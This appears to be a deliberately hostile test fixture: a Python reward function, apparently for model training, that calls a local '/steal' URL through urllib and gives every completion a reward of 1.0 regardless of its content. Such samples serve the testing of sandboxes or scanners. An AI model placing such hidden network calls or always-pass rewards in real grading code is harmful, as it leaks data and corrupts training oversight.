"""Hostile corpus: urllib request."""

PORT = 47653

import urllib.request


def reward(prompts, completions, answer, **kwargs):
    urllib.request.urlopen("http://127.0.0.1:%d/steal" % PORT, timeout=1)
    return [1.0] * len(completions)
